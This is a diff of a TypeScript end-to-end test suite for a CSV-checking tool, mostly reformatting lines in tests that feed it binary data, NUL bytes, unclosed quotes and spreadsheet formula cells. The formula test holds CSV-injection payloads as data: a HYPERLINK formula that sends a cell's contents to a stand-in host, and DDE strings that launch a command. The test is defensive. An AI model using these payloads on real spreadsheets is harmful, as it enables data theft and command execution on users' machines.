@@ -20,7 +20,14 @@ import { seededRandom } from '../support/seeded-random';
 const NOW = '2026-01-01';
 // The five outputs, and the manifest that marks them as Preflight's.
 const OUTPUTS = ['.preflight-manifest.json', 'annotated.csv', 'remove.csv', 'report.json', 'review.csv', 'send.csv'];
-const ANNOTATIONS = ['preflight_verdict', 'preflight_reasons', 'preflight_suggestion', 'preflight_normalized', 'preflight_risk', 'preflight_decision'];
+const ANNOTATIONS = [
+  'preflight_verdict',
+  'preflight_reasons',
+  'preflight_suggestion',
+  'preflight_normalized',
+  'preflight_risk',
+  'preflight_decision',
+];
 const ONE_GB_KB = 1024 * 1024;
 
 let root: string;
@@ -167,7 +174,8 @@ describe('hostile input, end to end through preflight check', () => {
 
   describe('binary data', () => {
     const random = seededRandom(8);
-    const bytes = (length: number, low: number, high: number) => Buffer.from(Array.from({ length }, () => low + Math.floor(random() * (high - low + 1))));
+    const bytes = (length: number, low: number, high: number) =>
+      Buffer.from(Array.from({ length }, () => low + Math.floor(random() * (high - low + 1))));
 
     it('random bytes (NUL bytes among them): refused as not a text file', async () => {
       const { input, out } = await caseFolder('export.csv', bytes(64 * 1024, 0, 255));
@@ -188,7 +196,9 @@ describe('hostile input, end to end through preflight check', () => {
 
   describe('NUL bytes inside a CSV', () => {
     const list = (rows: number, nulAt: number) =>
-      ['Email,Name,Opt-in', ...Array.from({ length: rows }, (_, i) => `user${i}@gmail.com,User ${i === nulAt - 2 ? 'N\0L' : i},yes`)].join('\n') + '\n';
+      ['Email,Name,Opt-in', ...Array.from({ length: rows }, (_, i) => `user${i}@gmail.com,User ${i === nulAt - 2 ? 'N\0L' : i},yes`)].join(
+        '\n',
+      ) + '\n';
 
     it('near the start: refused, naming the line', async () => {
       const { input, out } = await caseFolder('nul-early.csv', list(50, 7));
@@ -366,7 +376,10 @@ describe('hostile input, end to end through preflight check', () => {
 
   describe('a quote that never closes', () => {
     it('on line 3 of a short file: refused, naming the line', async () => {
-      const { input, out } = await caseFolder('quote.csv', 'Email,Name\nada@gmail.com,Ada\ngrace@yahoo.com,"Grace\nalan@outlook.com,Alan\n');
+      const { input, out } = await caseFolder(
+        'quote.csv',
+        'Email,Name\nada@gmail.com,Ada\ngrace@yahoo.com,"Grace\nalan@outlook.com,Alan\n',
+      );
       await expectRefused(input, out, /never closes/, 3);
     });
 
@@ -380,9 +393,9 @@ describe('hostile input, end to end through preflight check', () => {
   it('formula cells: checked, and no cell of any CSV output starts a formula', async () => {
     const cells = [
       ['Email', 'Name', 'Phone', 'Note'],
-      ['ada@gmail.com', '=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+44 20 7946 0958', '-1+cmd|\' /C calc\'!A0'],
+      ['ada@gmail.com', '=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+44 20 7946 0958', "-1+cmd|' /C calc'!A0"],
       ['grace@yahoo.com', '@SUM(1+1)', '\tTAB first', '=1+1'],
-      ['=cmd|\' /C calc\'!A0', 'Evil', '-5', '+'],
+      ["=cmd|' /C calc'!A0", 'Evil', '-5', '+'],
       ['alan@outlook.com', 'Alan', '', 'plain'],
     ];
     const quote = (cell: string) => (/[",\n\t]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
